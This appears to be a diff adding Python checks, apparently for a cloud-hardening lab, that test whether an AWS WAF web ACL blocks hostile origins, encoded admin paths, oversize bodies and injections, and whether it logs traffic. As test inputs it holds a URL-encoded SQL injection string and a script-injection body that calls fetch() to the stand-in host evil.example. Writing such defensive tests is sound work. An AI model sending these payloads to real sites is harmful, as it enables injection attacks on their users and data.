@@ -1,0 +1,138 @@
+"""Controls of AWS WAF: what becomes of requests, asked one by one."""
+
+from hardenlab import HIGH, MEDIUM, PATH, RESOURCE, control, failed, passed, unknown
+
+READER = "84.19.100.7"
+LONG = b"text=" + b"a" * 20_000
+SQL = "/search?q=1%27%20OR%20%271%27%3D%271"
+SCRIPT = b"text=%3Cscript%3Efetch(%27//evil.example%27)%3C/script%3E"
+
+
+@control(
+    severity=HIGH,
+    layer=PATH,
+    references=("SecurityHub ELB.16", "course 3.45", "course 3.46", "AWS WAF: Geographic match rule statement"),
+)
+def wafv2_requests_filtered_by_origin(account):
+    """Requests from the hostile range and from the licence's countries are blocked.
+
+    Judged by requests: from several addresses of the range, and from each country.
+
+    ## Why it matters
+    Where a request comes from is the cheapest thing to filter by, and the first that an attacker changes: it keeps out
+    noise and obeys a contract. It is no proof of who somebody is.
+
+    ## Remediation
+    Put the web ACL in front of the balancer; give the rule on the IP set the action Block, not Count; name every
+    country of the licence in the geographic rule.
+    """
+    base = account.facts["hostile_range"].split("/")[0].rsplit(".", 1)[0]
+    strangers = [(f"{base}.{last}", {"country": "DE"}) for last in (1, 77, 254)]
+    countries = [(READER, {"country": code}) for code in account.facts["blocked_countries"]]
+    yield _all_blocked(account, "addresses", [(ip, "/", more) for ip, more in strangers])
+    yield _all_blocked(account, "countries", [(ip, "/", more) for ip, more in countries])
+
+
+@control(
+    severity=HIGH,
+    layer=PATH,
+    references=(
+        "course 3.47",
+        "course 3.48",
+        "AWS WAF: Text transformations",
+        "AWS WAF: Oversize web request components",
+    ),
+)
+def wafv2_requests_filtered_by_content(account):
+    """The editors' page is closed to everybody else however it is written, and long bodies are refused.
+
+    ## Why it matters
+    A rule compares bytes. /ADMIN and /%61dmin are other bytes and the same page, unless the rule decodes and lowers
+    them first. And WAF sees the first kilobytes of a body only: what a rule says of the rest is a choice of its own.
+
+    ## Remediation
+    Give the rule for /admin the transformations URL_DECODE and LOWERCASE. Limit the body by a size constraint (GT 8192)
+    whose oversize handling is MATCH: a body that is too long to be seen is too long.
+    """
+    paths = ["/admin", "/admin/articles", "/ADMIN/", "/%61dmin/users", "/Adm%69n"]
+    yield _all_blocked(account, "paths", [(READER, path, {"country": "DE"}) for path in paths])
+    bodies = [{"country": "DE", "method": "POST", "body": LONG * times} for times in (1, 4)]
+    yield _all_blocked(account, "sizes", [(READER, "/comments", more) for more in bodies])
+
+
+@control(
+    severity=HIGH,
+    layer=PATH,
+    references=("course 3.49", "AWS WAF: SQL injection attack rule statement"),
+)
+def wafv2_injections_blocked(account):
+    """SQL in the query and scripts in the body are looked for, and blocked when found.
+
+    Whether AWS's detectors recognise a given text is not published; judged is that one of them looks at the part of the
+    request that holds it, and blocks.
+
+    ## Why it matters
+    A rule that counts is a rule on trial: it reports what it would have stopped and lets it in. Trials that nobody ends
+    are how a site with a web ACL loses its comments table.
+
+    ## Remediation
+    Give the rules the action Block (managed rule groups: OverrideAction None). They should look at the query string and
+    the body, after URL decoding.
+    """
+    managed_sql = {"sql", "AWSManagedRulesSQLiRuleSet"}
+    yield _all_blocked(account, "sql", [(READER, SQL, {"country": "DE"})], managed_sql)
+    script = {"country": "DE", "method": "POST", "body": SCRIPT}
+    managed_scripts = {"scripts", "AWSManagedRulesCommonRuleSet"}
+    yield _all_blocked(account, "scripts", [(READER, "/comments", script)], managed_scripts)
+
+
+@control(
+    severity=MEDIUM,
+    layer=RESOURCE,
+    references=(
+        "SecurityHub WAF.11",
+        "course 3.51",
+        "AWS WAF: Setting rule priority",
+        "AWS WAF: Logging web ACL traffic",
+    ),
+)
+def wafv2_web_acl_acts_and_logs(account):
+    """Nobody is let in before the rules are asked, and the web ACL's log is kept.
+
+    ## Why it matters
+    Rules are asked in the order of their priority, and Allow ends the asking. A rule that allows whoever sends a
+    certain header, in front of the others, is a password that stands in the documentation of the probe.
+
+    ## Remediation
+    Delete the rule, or tie it to the probe's addresses and move it behind the others. Log to a group whose name begins
+    with aws-waf-logs-.
+    """
+    web = account.web(account.facts["site_balancer"])
+    if web.document is None:
+        yield failed(account.facts["site_balancer"], "no web ACL stands before the site")
+        return
+    logs = web.log_destinations()
+    evidence = [("wafv2:GetLoggingConfiguration", "LogDestinationConfigs", ", ".join(logs) or "none")]
+    if logs:
+        yield passed(f"{web.id}/log", "requests are logged", evidence=evidence)
+    else:
+        yield failed(f"{web.id}/log", "requests are not logged", evidence=evidence)
+    agent = account.facts.get("probe", "uptime-probe")
+    headers = {"user-agent": f"Mozilla/5.0 {agent}/1.0"}
+    base = account.facts["hostile_range"].split("/")[0].rsplit(".", 1)[0]
+    yield _all_blocked(account, "order", [(f"{base}.9", "/admin", {"country": "DE", "headers": headers})])
+
+
+def _all_blocked(account, what, requests, detectors=frozenset()):
+    """Every one of these requests is blocked, or looked at by one of these detectors of AWS, as far as one can know."""
+    web = account.web(account.facts["site_balancer"])
+    resource = f"{web.id}/{what}"
+    for ip, target, more in requests:
+        answer = web.ask(ip, target, **more)
+        about = f"{more.get('method', 'GET')} {target[:60]} from {ip} ({more['country']})"
+        if answer.action == "UNKNOWN":
+            return unknown(resource, f"cannot judge {about}: {answer.sentence}")
+        if answer.action == "ALLOW" or (answer.action == "DETECTOR" and not answer.detectors & set(detectors)):
+            evidence = [("wafv2:GetWebACL", "Rules", answer.rule or "the default action")]
+            return failed(resource, f"{about} is let in: {answer.sentence}", evidence=evidence, witness=about)
+    return passed(resource, f"{what}: {len(requests)} requests that should not get in do not")
